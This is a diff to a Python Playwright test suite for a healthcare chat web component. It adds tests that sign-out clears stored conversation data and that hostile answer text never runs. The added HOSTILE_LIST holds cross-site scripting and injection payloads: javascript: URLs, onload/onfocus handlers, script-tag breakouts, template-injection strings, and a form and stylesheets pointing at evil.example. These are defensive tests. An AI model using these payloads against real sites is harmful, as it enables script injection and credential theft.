@@ -323,7 +323,7 @@ async def test_what_is_typed_while_a_code_is_checked_goes_on_in_the_renewed_conv
     assert [turn.get("conversation") for turn in demo.gateway.turns] == [None, "before", "after"]
 
 
-async def test_only_the_conversation_id_stays_on_the_device(demo: Opened) -> None:
+async def test_w06_only_the_conversation_id_stays_on_the_device(demo: Opened) -> None:
     demo.gateway.will_say(reply("Hello."))
     demo.gateway.will_say(reply("Still here."))
     await demo.say("My private question")
@@ -368,6 +368,48 @@ async def test_a_conversation_that_ended_is_not_gone_on_with(demo: Opened) -> No
 
     await demo.page.get_by_text("Hello.", exact=True).wait_for()
     assert "conversation" not in demo.gateway.turns[1]
+
+
+WHOLE_PAGE = """() => {
+  const shown = (root) => [...root.querySelectorAll("*")].map((node) =>
+    [node.value ?? "", [...node.attributes].map((each) => each.value).join(" "), node.shadowRoot ? shown(node.shadowRoot) : ""]
+      .join(" ")).join(" ") + " " + (root.textContent ?? root.body.textContent);
+  return [shown(document), ...Object.values(sessionStorage), ...Object.values(localStorage), document.cookie,
+    location.href, JSON.stringify(history.state)].join(" ");
+}"""
+CANARIES = ("hemoglobin-canary", "13.77", "wombat question", "unsent secret", "Quokka Street")
+
+
+@pytest.mark.parametrize("ended", [False, True])
+async def test_w06_after_signing_out_nothing_of_what_was_said_is_left(demo: Opened, ended: bool) -> None:
+    rows = [{"name": "hemoglobin-canary", "value": "13.77", "flag": "H"}]
+    demo.gateway.will_say(
+        reply("Here it is.", parts=[{"type": "result", "name": "Blood", "rows": rows}], titles=("Quokka Street",)),
+        signed_in=True,
+    )
+    demo.gateway.will_refuse(503, "Later, please.")
+    late = demo.gateway.will_say(reply("hemoglobin-canary again"), signed_in=True, held=True)
+    demo.gateway.will_say(reply("You're signed out."), signed_in=False, ended=ended)
+    await demo.say("wombat question")
+    await demo.page.get_by_role("cell", name="13.77").wait_for()
+    held = await demo.page.evaluate(WHOLE_PAGE)
+    assert [each for each in CANARIES if each in held] == [each for each in CANARIES if each != "unsent secret"]
+    await demo.say("unsent secret")
+    await demo.page.get_by_role("button", name="Send again").wait_for()
+    await demo.say("and my results?")
+
+    await demo.say("Sign me out")
+    await demo.page.get_by_text("You're signed out.").wait_for()
+    late.released.set()
+    await demo.page.wait_for_timeout(300)
+
+    left = await demo.page.evaluate(WHOLE_PAGE)
+    assert [each for each in CANARIES if each in left] == []
+    await demo.page.goto(f"{demo.origin}/theme.css")
+    await demo.page.go_back()
+    await demo.page.get_by_role("option", name="Ada Ellis").wait_for(state="attached")
+    left = await demo.page.evaluate(WHOLE_PAGE)
+    assert [each for each in CANARIES if each in left] == []
 
 
 async def test_the_sign_in_is_shown(demo: Opened) -> None:
@@ -415,6 +457,24 @@ async def test_an_emergency_stands_out(demo: Opened) -> None:
 
 
 HOSTILE = "<img src=x onerror=\"document.body.dataset.fell='yes'\"><script>document.body.dataset.fell='yes'</script>"
+FELL = "document.body.dataset.fell='yes'"
+HOSTILE_LIST = [
+    f"<svg onload={FELL}>",
+    f'<iframe src="javascript:parent.{FELL}"></iframe>',
+    f'<a href="javascript:{FELL}">here</a>',
+    f"javascript:{FELL}",
+    f'"><script>{FELL}</script>',
+    f"' autofocus onfocus=\"{FELL}\" x='",
+    f"</textarea><script>{FELL}</script>",
+    f"<style>@import 'https://evil.example/x.css';</style><body onload={FELL}>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<form action=https://evil.example><input name=code><button>Send</button></form>",
+    "[here](https://evil.example) ![x](https://evil.example/x.png)",
+    "https://evil.example/sign-in",
+    f"${{{FELL}}} {{{{constructor.constructor('{FELL}')()}}}}",
+    f"&lt;script&gt;{FELL}&lt;/script&gt;",
+    "\u202e\u2066evil\u2069 \u0000 \ufeff",
+]
 
 
 def _hostile_replies() -> list[dict[str, Any]]:
@@ -431,7 +491,7 @@ def _hostile_replies() -> list[dict[str, Any]]:
     ]
 
 
-async def test_hostile_text_is_shown_as_text(demo: Opened) -> None:
+async def test_w01_hostile_text_is_shown_as_text(demo: Opened) -> None:
     demo.gateway.people[0]["try"] = [HOSTILE]
     await demo.page.reload()
     demo.gateway.send_text(f"{HOSTILE} 123456")
@@ -447,6 +507,28 @@ async def test_hostile_text_is_shown_as_text(demo: Opened) -> None:
     assert await shown.count() >= 12
     assert await demo.page.locator("img:not([src='mark.svg'])").count() == 0
     assert await demo.page.evaluate("document.body.dataset.fell") is None
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_LIST)
+async def test_w01_no_field_of_an_answer_runs_asks_or_links(demo: Opened, hostile: str) -> None:
+    rows = [{"name": hostile, "value": hostile, "unit": hostile, "range": hostile, "flag": hostile}]
+    demo.gateway.will_say(
+        reply(hostile, hostile, titles=(hostile,), values={"times": hostile, "lines": hostile}),
+        reply(hostile, parts=[{"type": "result", "name": hostile, "rows": rows}]),
+        reply(hostile, parts=[{"type": "receipt", "visit": hostile, "amount": hostile, "receipt": hostile}]),
+        trace={"outcome": hostile, "understood": {hostile: hostile}},
+    )
+    demo.gateway.will_refuse(429, hostile)
+    await demo.say(hostile)
+    await demo.page.get_by_role("table").wait_for()
+    await demo.say("again")
+    await demo.page.get_by_role("button", name="Send again").wait_for()
+
+    chat = demo.page.locator("careline-chat")
+    for tag in ("img", "iframe", "script", "svg", "style", "form:not(:has(#message))", "a:not([href='tel:911'])"):
+        assert await chat.locator(tag).count() == 0, tag
+    assert await demo.page.evaluate("document.body.dataset.fell") is None
+    assert demo.strangers == []
 
 
 async def test_a_new_answer_is_in_view_from_its_beginning(demo: Opened) -> None:
